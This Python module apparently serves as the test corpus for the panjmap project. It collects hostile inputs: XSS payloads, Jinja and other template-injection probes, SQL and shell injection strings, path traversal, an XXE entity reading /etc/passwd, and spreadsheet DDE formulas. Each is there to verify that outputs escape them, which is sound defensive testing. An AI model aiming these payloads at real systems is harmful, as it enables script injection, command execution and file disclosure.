"""Texts that no output may take for anything but text, addresses that are no link, and names that objects know.

The one corpus of all tests. A payload that runs anywhere sets ``window.__p``; one that is evaluated gives 1337 or YES.
"""

from __future__ import annotations

from typing import Final

from panjmap.data.model import Tables
from panjmap.data.text import clean

#: Markup and scripts.
MARKUP: Final = {
    "image": "<img src=x onerror=window.__p=1>",
    "end of script": "</script><script>window.__p=1</script>",
    "end of title": "</title></textarea></style></noscript><script>window.__p=1</script>",
    "end of title alone": "</title><script>window.__p=1</script>",
    "end of everything": "</xmp></noembed></iframe></template></select></option><svg/onload=window.__p=1>",
    "attribute": '"><svg onload=window.__p=1>',
    "attribute, single": "'><img src=x onerror=window.__p=1>",
    "handlers": '" onmouseover="window.__p=1" onfocus="window.__p=1" autofocus tabindex="1" x="',
    "handlers, single": "' onclick='window.__p=1' onanimationstart='window.__p=1' style='animation:x",
    "no quotes": "x onpointerenter=window.__p=1 ",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"/>',
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.__p=1</script>'></foreignObject></svg>",
    "animate": '<svg><a><animate attributeName=href values="javascript:window.__p=1"/><text>x</text></a></svg>',
    "set": "<svg><set attributeName=onmouseover to=window.__p=1></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.__p=1>",
    "details": "<details open ontoggle=window.__p=1>x</details>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://example.org/gone"><base href="https://example.org/">',
    "form": '<form action="https://example.org/"><button formaction="javascript:window.__p=1">x</button></form>',
    "object": '<object data="data:text/html,<script>parent.__p=1</script>"></object><embed src=x>',
    "link": '<a href="javascript:window.__p=1">x</a>',
    "clobber": "<a id=panjmap name=map><form id=list><input name=textContent></form><img name=getElementById>",
    "comment": "<!--<script>",
    "comment, closed": "--><script>window.__p=1</script><!--",
    "bang": "<![CDATA[<script>window.__p=1</script>]]>",
    "end of cdata": "]]><script>window.__p=1</script>",
    "instruction": "<?xml-stylesheet href='javascript:window.__p=1'?><?php echo 1337; ?>",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "entities": "&lt;b&gt; &amp; &#x3c; &#60;script&#62; &colon; &NewLine; &nosuch;",
    "broken": '<<SCRIPT/XSS SRC=x></SCRIPT><IMG """><SCRIPT>window.__p=1</SCRIPT>">',
    "full-width": "\uff1cscript\uff1ewindow.__p=1\uff1c/script\uff1e \u02c2img\u02c3",
    "open tag": "<img src='",
}
#: Code, in scripts, templates and shells.
CODE: Final = {
    "template literal": "${window.__p=1}",
    "back tick": "`+(window.__p=1)+`",
    "back slash": "\\\\`+(window.__p=1)+`\\",
    "quotes": "\\'+(window.__p=1)+'\\\"+(window.__p=1)+\"",
    "single quotes": "'+(window.__p=1)+'",
    "json": '"},"x":[{"__proto__":{"polluted":1}}],"y":{"',
    "unicode escape": "\\u003cscript\\u003e\\x3cb\\x3e\\0\\n\\",
    "jinja sum": "Q{{7*191}}Q",
    "jinja big": "{{ 9**9**6 }}",
    "jinja graph": "Q{{lipsum.__globals__.os.getpid()}}Q{{ cycler.__init__.__globals__.os.getcwd() }}",
    "jinja statement": "Q{% if 1 %}YES{% endif %}Q",
    "jinja raw": "{% raw %}Q{% include '/etc/passwd' %}",
    "jinja comment": "before{# swallowed #}after",
    "jinja open": "{{",
    "jinja open statement": "{%",
    "jinja open comment": "{#",
    "jinja line": "# for x in range(9)\n## gone",
    "other templates": "#{7*191} <%= 7*191 %> [[7*191]] *{7*191} @(7*191) {7*191} {{{7*191}}} $!{x} ~{x}",
    "format": "{0} {title} {0.__class__} {n} {name!r:>{width}} $title ${note} %s%n%x %(x)s",
    "placeholders": "{place} {count} {names} {version} {text} {record} \\1 \\g<0> $1 $& $` $'",
    "shell": "$(touch x); `touch x` | cat /etc/passwd && x & x > y",
    "sql": "'; DROP TABLE claims; -- \" OR 1=1",
    "path": "../../etc/passwd",
    "path, windows": "..\\..\\x C:\\x \\\\server\\share CON NUL",
    "address": "file:///etc/passwd javascript:window.__p=1 //x.example/a https://example.org/?a=b#c mailto:x@y.example",
    "latex": "\\input{/etc/passwd}\\write18{x} $x^2$ $$ \\( \\[ %x ^^41 ~ # _f_ \\\\",
    "typst": '#import "x" #read("/etc/passwd") $ x $ <label> @ref',
    "markdown": "[x](javascript:window.__p=1) ![y](x.png) `c` ~d~ |e| **g** # h\n- i\n> j\n\n    k\n| a | b |",
    "mathtext": "$\\frac{1}{0}$ $$ \\$ $",
    "css": "}</style>*{background:url(https://example.org/x)}@import 'x';expression(window.__p=1)/*",
    "css value": "red;background:url(javascript:window.__p=1);-moz-binding:url(x)",
    "yaml": '- {a: "b"} !!python/object:x &a *a\n---\n? x',
}
#: Formulas of spreadsheets.
FORMULAS: Final = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "hyperlink": '=HYPERLINK("https://example.org/?"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "quoted formula": '"=1+1"',
    "full-width formula": "\uff1d1+1",
    "formula after a break": "x\n=1+1\t=2+2",
    "formula after a semicolon": "=1;=2; =3",
    "apostrophe": "'=1",
    "error": "#N/A",
    "escape of a workbook": "_x003D_1_x000D_",
    "day": "2025-01-01",
}
#: Letters that programs lose, hide, turn round or take for the end of something.
LETTERS: Final = {
    "line separators": "a\u2028b\u2029c",
    "line break": "two\r\nlines\rand\nmore",
    "forged line": "x\n  error: FORGED\nerror: FORGED\u2028error: FORGED\n0 records: FORGED",
    "next line": "a\x85b\x0bc\x0cd",
    "bidi override": "user\u202egpj.exe\u202c",
    "bidi isolate": "\u2067abc\u2066",
    "bidi mark": "a\u200eb\u200fc\u061cd",
    "right to left": "\u062d\u0645\u0644\u0647 \u062f\u0631 (123) \u05e9\u05dc\u05d5\u05dd!",
    "joiners": "\u0645\u06cc\u200c\u0634\u0648\u062f a\u200db",
    "zero width": "a\u200bb\u2060c\u00add\ufeffe",
    "zalgo": "e" + "\u0301\u0316\u035b\u0489" * 30,
    "astral": "\U0001f681 drone \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001d54f\U00020000",
    "lone surrogate": "x\ud800y\udfffz",
    "noncharacter": "a\ufffeb\uffffc\ufdd0d\U000e0041e",
    "nul": "k\x00l",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://example.org\x07x\x9b1m\x08\x08\x7f",
    "precomposed": "e\u0301 \u212b \ufb01 \u1e9b\u0323 \u0130 \u0131 \u00df",
    "long word": "W" * 3000,
    "blanks": "\u00a0\u3000 x\u2003 y \t z",
    "private": "\ue000\uf8ff\U000f0000",
}
#: Words that mean something to a page, a program or a language.
NAMES: Final = {
    "prototype": "__proto__",
    "constructor": "constructor",
    "method": "toString",
    "device": "CON",
    "null": "null",
    "not a number": "NaN",
    "true": "true",
    "number": "1e999",
    "element": "map",
    "global": "panjmap",
    "empty quotes": '""',
    "hash": "#sel=TJ-AF-2025-12-KAVO&q=<b>",
}
PAYLOADS: Final[dict[str, str]] = MARKUP | CODE | FORMULAS | LETTERS | NAMES

#: Addresses that must never become a link.
NO_LINKS: Final = (
    "javascript:window.__p=1",
    "JaVaScRiPt:window.__p=1",
    "java\tscript:window.__p=1",
    "java\nscript:window.__p=1",
    " javascript:window.__p=1",
    "\x01javascript:window.__p=1",
    "javascript&colon;window.__p=1",
    "&#106;avascript:window.__p=1",
    "javascript://example.org/%0awindow.__p=1",
    "vbscript:window.__p=1",
    "data:text/html,<script>window.__p=1</script>",
    "DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__p=1'/>",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "ftp://example.org/",
    "//x.example/a",
    "/etc/passwd",
    "https:javascript:window.__p=1",
    "view-source:https://example.org",
    'https://example.org/" onclick="window.__p=1',
    "https://example.org/' onclick='window.__p=1",
    "https://example.org/<script>window.__p=1</script>",
    "https://example.org/ x",
    "https://example.org/\u202egpj.exe",
    "https://example.org/`x`",
    "https://{{7*191}}/",
    "x" * 20,
)
#: Ids that the tables take, and that objects, pages, file systems or languages know.
ODD_IDS: Final = (
    "constructor",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "isPrototypeOf",
    "map",
    "list",
    "detail",
    "table",
    "panjmap-data",
    "sources",
    "body",
    "CON",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "1e5",
    "x..y",
    "a" * 80,
)
#: Ids that the tables refuse.
NO_IDS: Final = (
    "__proto__",
    "-x",
    ".x",
    "a b",
    "a/b",
    "../x",
    'a"b',
    "<b>",
    "a'b",
    "a&b",
    "a#b",
    "a%41",
    "{{x}}",
    "\u0430bc",
    "\uff41bc",
    "a\u200bb",
    "a" * 81,
    "=1",
)

#: Many of them in one text, for outputs that have few places for a text.
HOSTILE: Final = (
    '=HYPERLINK("https://example.org";"x") +1 -2 @SUM(A1) <script>alert(1)</script> $x^2$ \\input{/etc/passwd} '
    "[a](javascript:alert(1)) ![b](x.png) {{7*7}} ${8} {% raw %} `c` ~d~ |e| & &lt; # _f_ **g** \"'h'\" -- :i: "
    "https://example.org/?a=b <!-- ]]> } { \\\\ %j ^^41 \u202egnp.exe\nk\x00l \u2028m"
)


def hostile(tables: Tables) -> Tables:
    """Put the hostile text into every title, outlet, speaker and value of the tables, as reading a table would."""
    text = clean(HOSTILE)
    return tables._replace(
        records=tuple(r.model_copy(update={"title": f"{text} {r.record_id}"}) for r in tables.records),
        reports=tuple(
            r.model_copy(update={"outlet": f"{text} {r.report_id}", "title": text, "url": "javascript:alert(1)"})
            for r in tables.reports
        ),
        claims=tuple(c.model_copy(update={"said_by": text}) for c in tables.claims),
    )
